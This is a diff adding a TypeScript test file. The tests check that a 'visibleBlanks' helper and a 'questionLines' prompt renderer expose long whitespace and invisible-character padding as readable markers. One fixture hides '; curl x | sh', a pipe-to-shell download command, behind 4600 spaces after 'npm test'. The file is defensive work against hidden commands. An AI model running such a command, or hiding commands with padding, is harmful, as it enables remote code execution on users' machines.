@@ -1,0 +1,37 @@
+import { expect, it } from "vitest";
+
+import { MAX_INDENTATION, visibleBlanks } from "../../src/core/visible-blanks.ts";
+import { questionLines } from "../../src/cli/question-lines.ts";
+
+const spaces = (count: number): string => " ".repeat(count);
+
+it.each([
+  [`npm test${spaces(4600)}; curl x | sh`, "npm test<4600 spaces>; curl x | sh"],
+  [`a${"\t".repeat(9)}b${"\u00a0".repeat(20)}c`, "a<9 spaces>b<20 spaces>c"],
+  [`a${"\u2800".repeat(9)}b${" \u200d".repeat(100)}c`, "a<9 spaces>b<200 spaces>c"],
+  [`a${"\n".repeat(41)}b`, "a\n<40 blank lines>\nb"],
+  [`a\n${spaces(9)}b`, "a\n<9 spaces>b"],
+  ["a\n        b  c\n\n\nd", "a\n        b  c\n\n\nd"],
+])("[PERMISSION-89] shows the blanks of %j", (text, expected) => {
+  expect(visibleBlanks(text)).toBe(expected);
+});
+
+it.each([
+  [`${spaces(40)}a${spaces(9)}b`, `${spaces(40)}a<9 spaces>b`],
+  [`${spaces(41)}a`, "<41 spaces>a"],
+  [`+${spaces(40)}a\n-${spaces(41)}b`, `+${spaces(40)}a\n-<41 spaces>b`],
+  [`a+${spaces(20)}b\n++${spaces(20)}c`, "a+<20 spaces>b\n++<20 spaces>c"],
+])("[TERM-43] keeps the indentation of %j", (text, expected) => {
+  expect(visibleBlanks(text, MAX_INDENTATION)).toBe(expected);
+});
+
+it("[QUESTION-36] a question in lines shows them, too", () => {
+  const hidden = `yes${spaces(4600)}and all`;
+  expect(
+    questionLines({ text: hidden, choices: [hidden], effect: hidden, kind: "question" }),
+  ).toEqual([
+    "  yes<4600 spaces>and all",
+    "  Effect: yes<4600 spaces>and all",
+    "  1. yes<4600 spaces>and all",
+  ]);
+});
